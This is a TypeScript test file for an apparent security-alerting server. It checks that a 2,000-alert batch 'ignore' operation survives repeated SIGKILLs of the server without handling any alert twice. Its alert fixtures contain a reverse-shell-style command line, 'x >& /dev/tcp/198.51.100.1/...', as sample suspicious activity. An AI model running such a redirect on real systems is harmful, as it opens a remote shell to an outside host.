/** A real server process is killed (SIGKILL) in the middle of a batch of 2,000: the batch goes on, and nothing is done twice. */
import assert from 'node:assert/strict'
import { type ChildProcess, spawn } from 'node:child_process'
import { once } from 'node:events'
import { rmSync } from 'node:fs'
import { join } from 'node:path'
import { createInterface } from 'node:readline'
import { test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { Database } from '@rampart/alert'
import { migrations } from './store/migrations.ts'
import { enrolAgent, TestAgent } from './testing/test-agent.ts'
import { TestConsole } from './testing/test-console.ts'
import { temporaryDirectory, writeTestModels } from './testing/test-server.ts'

const main = fileURLToPath(new URL('./testing/server-process.ts', import.meta.url))
const alerts = 2000
const kills = 3
const password = 'a new and long password'

interface Ready {
  consoleUrl: string
  firstUser: { name: string; password: string } | null
  token: string
}

async function startProcess(directory: string): Promise<{ child: ChildProcess; ready: Ready }> {
  const child = spawn(
    process.execPath,
    [
      ...['--disable-warning=ExperimentalWarning', main, '--state', join(directory, 'state')],
      ...['--models', join(directory, 'models'), '--indicators', join(directory, 'none')],
      ...['--listen', '127.0.0.1:0', '--agent-listen', '127.0.0.1:0', '--log', 'none'],
    ],
    { stdio: ['ignore', 'pipe', 'inherit'] },
  )
  const [line] = await once(createInterface({ input: child.stdout }), 'line')
  return { child, ready: JSON.parse(String(line)) as Ready }
}

test('SIGKILL in the middle of a batch of 2,000: it goes on, and no alert is handled twice', async (t) => {
  const directory = temporaryDirectory()
  writeTestModels(join(directory, 'models'))
  let { child, ready } = await startProcess(directory)
  t.after(() => {
    child.kill('SIGKILL')
    rmSync(directory, { recursive: true, force: true })
  })
  let console = new TestConsole(ready.consoleUrl)
  assert.ok(ready.firstUser)
  await console.begin(ready.firstUser, password)
  const agent = new TestAgent(await enrolAgent(ready.token))
  await agent.connect()
  for (let sequence = 1; sequence <= alerts / 100; sequence++)
    await agent.deliver(
      sequence,
      Array.from({ length: 100 }, (_, index) => {
        const number = sequence * 100 + index
        return agent.started(number, `x >& /dev/tcp/198.51.100.1/${number}`, 4242, `/opt/tool-${number}`)
      }),
    )
  agent.cut()
  const started = await console.call('startBatch', { body: { operation: 'ignore', filter: { q: '/opt/tool-' } } })
  assert.equal(started.body.total, alerts)
  const now = async () => (await console.call('getBatch', { id: started.body.id })).body
  const interrupted: number[] = []
  for (let kill = 1; kill <= kills; kill++) {
    for (;;) {
      const { done, state } = await now()
      assert.equal(state, 'running', `kill ${kill} came too late`)
      if (done >= kill * 200) break
    }
    child.kill('SIGKILL')
    await once(child, 'exit')
    interrupted.push(kill)
    ;({ child, ready } = await startProcess(directory))
    console = new TestConsole(ready.consoleUrl)
    assert.equal((await console.signIn('admin', password)).status, 200)
  }
  for (let tries = 0; tries < 2000 && (await now()).state === 'running'; tries++)
    await new Promise((resolve) => setTimeout(resolve, 20))
  const end = await now()
  assert.deepEqual([end.state, end.total, end.done, end.refused, end.changed], ['done', alerts, alerts, 0, 0])
  child.kill('SIGTERM')
  await once(child, 'exit')
  const opened = Database.open(join(directory, 'state/rampart.db'), migrations)
  assert.ok(opened.ok)
  const rows = opened.database.all<{ times: number }>(
    "SELECT count(*) AS times FROM history WHERE operation = 'ignore' GROUP BY alert_id",
  )
  opened.database.close()
  assert.equal(rows.length, alerts)
  assert.ok(rows.every(({ times }) => times === 1))
  assert.equal(interrupted.length, kills)
})
